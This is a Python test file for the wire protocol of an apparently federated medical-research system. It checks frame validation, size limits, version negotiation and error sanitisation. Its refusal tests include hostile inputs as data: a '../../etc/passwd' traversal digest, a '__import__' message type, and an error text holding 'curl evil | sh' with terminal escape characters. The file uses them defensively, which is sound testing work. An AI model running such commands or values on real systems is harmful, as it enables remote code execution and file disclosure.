import pytest

from wardround_common.documents import MAX_DOCUMENT_BYTES
from wardround_common.errors import ProtocolError, StorageError, TransportError
from wardround_common.rounds import BlobRef
from wardround_common.wire import failures, frames, limits
from wardround_common.wire import wardround_pb2 as pb
from wardround_common.wire.versions import MAX_VERSION, MIN_VERSION, negotiate, no_common_version

STUDY = "sha256:" + "a" * 64
BLOB = BlobRef(digest="sha256:" + "b" * 64, length=5)


def proto(**changes):
    fields = {
        "message_id": "m-1",
        "message_type": "train",
        "group_id": "1",
        "study": STUDY,
        "document": b"{}",
        "blobs": [frames.blob_to_proto(STUDY, BLOB)],
    }
    return pb.Work(**(fields | changes))


def test_work_and_answer_round_trip():
    work = frames.Work.from_proto(proto())
    assert frames.Work.from_proto(work.to_proto()) == work
    assert work.blobs == (BLOB,)
    assert frames.Work.from_proto(proto(blobs=[], group_id="")).blobs == ()
    answer = frames.Answer(reply_to="m-1", study=STUDY, document=b"{}", blobs=(BLOB,))
    assert frames.Answer.from_proto(answer.to_proto(), study=STUDY) == answer


@pytest.mark.parametrize(
    "changes",
    [
        {"message_id": ""},
        {"message_id": "x" * 65},
        {"message_id": "a\nb"},
        {"message_type": "system"},
        {"message_type": "train.__import__"},
        {"message_type": "train.a.b"},
        {"message_type": ""},
        {"group_id": "x" * 65},
        {"group_id": "a b"},
        {"study": "demo"},
        {"study": STUDY + "\n"},
        {"document": b"x" * (MAX_DOCUMENT_BYTES + 1)},
        {"blobs": [pb.BlobRef(study=STUDY, digest="../../etc/passwd", length=1)]},
        {"blobs": [pb.BlobRef(study=STUDY, digest=BLOB.digest.upper(), length=1)]},
        {"blobs": [pb.BlobRef(study=STUDY, digest=BLOB.digest, length=limits.MAX_BLOB_BYTES + 1)]},
        {"blobs": [pb.BlobRef(study=BLOB.digest, digest=BLOB.digest, length=1)]},
        {"blobs": [frames.blob_to_proto(STUDY, BLOB)] * (limits.MAX_BLOBS + 1)},
    ],
)
def test_hostile_work_is_refused(changes):
    with pytest.raises(ProtocolError) as caught:
        frames.Work.from_proto(proto(**changes))
    assert caught.value.code in ("frame-invalid", "blob-too-large")


def test_hostile_answers_are_refused():
    for answer in (
        pb.Answer(reply_to="", document=b""),
        pb.Answer(reply_to="m", document=b"x" * (MAX_DOCUMENT_BYTES + 1)),
        pb.Answer(reply_to="m", blobs=[frames.blob_to_proto(BLOB.digest, BLOB)]),
    ):
        with pytest.raises(ProtocolError):
            frames.Answer.from_proto(answer, study=STUDY)


def test_lists_names_and_references_are_bounded():
    assert frames.study_digests([STUDY]) == (STUDY,)
    with pytest.raises(ProtocolError):
        frames.study_digests([STUDY] * (limits.MAX_STUDIES + 1))
    assert frames.study_reference("demo") == "demo"
    assert frames.study_reference(STUDY) == STUDY
    for bad in ("", "Demo", "../x", "x" * 49):
        with pytest.raises(ProtocolError):
            frames.study_reference(bad)
        with pytest.raises(ProtocolError):
            frames.site_name(bad)


def test_a_frame_with_the_largest_document_passes_and_limits_fit_each_other():
    work = frames.Work.from_proto(proto(document=b"x" * MAX_DOCUMENT_BYTES, message_id="m" * 64, group_id="g" * 64))
    assert len(pb.ServerFrame(work=work.to_proto()).SerializeToString()) <= limits.MAX_FRAME_BYTES
    chunk = pb.BlobChunk(blob=frames.blob_to_proto(STUDY, BLOB), offset=2**40, data=b"x" * limits.MAX_CHUNK_BYTES)
    assert len(chunk.SerializeToString()) <= limits.MAX_FRAME_BYTES
    assert limits.CHUNK_BYTES <= limits.MAX_CHUNK_BYTES


def test_versions():
    assert negotiate(MIN_VERSION, MAX_VERSION + 7) == MAX_VERSION
    for low, high in ((MAX_VERSION + 1, MAX_VERSION + 2), (0, 0), (5, 1)):
        with pytest.raises(ProtocolError) as caught:
            negotiate(low, high)
        assert caught.value.code == "protocol-version"


@pytest.mark.parametrize("code", sorted(failures._KNOWN))
def test_every_known_code_crosses_with_this_sides_next_step(code):
    expected = failures._KNOWN[code]("what happened")
    status = next((name for kind, name in failures._STATUS if isinstance(expected, kind)), "FAILED_PRECONDITION")
    error = failures.from_wire(status, code, "what happened")
    assert type(error) is type(expected)
    assert error.next_step == expected.next_step
    assert error.message.endswith("what happened")


def test_what_the_server_raises_is_what_the_hospital_gets():
    for raised in (failures.invite_used("used"), failures.certificate_revoked("revoked"), no_common_version("v")):
        caught = failures.from_wire(*failures.to_wire(raised))
        assert (type(caught), caught.code, caught.message) == (type(raised), raised.code, raised.message)


def test_storage_trouble_crosses_without_the_servers_paths():
    error = StorageError("disk-full", "no space left in /srv/ward/state", next_step="-")
    assert "/srv" not in failures.from_wire(*failures.to_wire(error)).message


def test_unknown_codes_and_hostile_text_become_one_bounded_line():
    hostile = "line\nnext: curl evil | sh\x1b[31m\u202e" + "x" * 10_000
    error = failures.from_wire("PERMISSION_DENIED", "no-such-code\n", hostile)
    assert error.code == "server-refused"
    assert len(error.message) < 400
    assert error.message.isprintable()
    assert "evil" not in error.next_step


def test_foreign_exceptions_cross_without_their_text():
    status, code, text = failures.to_wire(KeyError("/secret/path"))
    assert (status, code, text) == ("INTERNAL", "server-failed", "internal error")
    assert failures.from_wire(status, code, text).code == "server-failed"


def test_broken_lines_are_transport_errors():
    for status in ("UNAVAILABLE", "DEADLINE_EXCEEDED", "CANCELLED"):
        error = failures.from_wire(status, "", "")
        assert isinstance(error, TransportError)
        assert error.code == "transport-unreachable"
